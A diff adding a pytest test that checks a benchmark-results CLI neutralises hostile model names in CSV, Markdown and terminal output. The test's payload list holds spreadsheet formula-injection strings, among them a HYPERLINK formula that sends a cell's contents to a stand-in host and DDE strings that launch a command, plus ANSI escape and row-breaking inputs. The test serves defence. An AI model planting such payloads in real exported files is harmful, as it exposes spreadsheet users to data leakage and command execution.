@@ -156,3 +156,38 @@ def test_empty_store_and_bad_format_are_clear(tmp_path):
     assert r.exit_code != 0 and "is a file" in r.output and "Traceback" not in r.output
     r = CliRunner().invoke(main, ["leaderboard", "--format", "csv", "--out", str(tmp_path)])
     assert r.exit_code != 0 and "is a folder" in r.output and "Traceback" not in r.output
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]
+
+
+def test_names_are_data_in_every_csv_markdown_and_terminal(tmp_path):
+    st = ResultStore()
+    for i, name in enumerate(FORMULAS):
+        put(st, run(name, "lamem-pls", -0.1 - i / 100))  # negative values stay numbers
+    put(st, run("evil\nname | x", "lamem-pls", 0.3))
+    put(st, run("red\x1b[31mALERT\x1b[0m", "lamem-pls", 0.2))
+    texts = {"leaderboard csv": CliRunner().invoke(main, ["leaderboard", "--format", "csv"]).output,
+             "results csv": CliRunner().invoke(main, ["results", "--format", "csv"]).output}
+    r = CliRunner().invoke(main, ["leaderboard", "--format", "html", "--out", str(tmp_path / "site")])
+    assert r.exit_code == 0, r.output
+    texts["board.csv"] = (tmp_path / "site" / "board.csv").read_bytes().decode()
+    for where, text in texts.items():
+        rows = list(csv.reader(io.StringIO(text, newline="")))
+        models = [row[0] for row in rows[1:]]
+        for name in FORMULAS:
+            assert "'" + name in models, (where, name, models)
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.lstrip(" ")[:1] == "="], where
+        values = [float(c) for c in cells if c.startswith("-0.1")]
+        assert values and all(v < 0 for v in values), where  # numbers are not neutralised
+    md = CliRunner().invoke(main, ["leaderboard", "--format", "markdown"]).output
+    table = [line for line in md.splitlines() if line.startswith("|")]
+    assert len(table) == 2 + len(FORMULAS) + 2  # the newline did not break a row
+    assert all(line.rstrip().endswith("|") for line in table) and "evil\\x0aname \\| x" in md
+    for argv in (["leaderboard"], ["results"], ["leaderboard", "--format", "markdown"]):
+        out = CliRunner().invoke(main, argv).output
+        assert "\x1b" not in out and "red\\x1b[31mALERT" in out, argv
+    r = CliRunner().invoke(main, ["score", "--model", "x" * 1_000_000 + "\x1b[2J", "--benchmark", "lamem-pls"])
+    assert r.exit_code == 2 and len(r.output) < 400 and "\x1b" not in r.output and "(1000004 characters)" in r.output
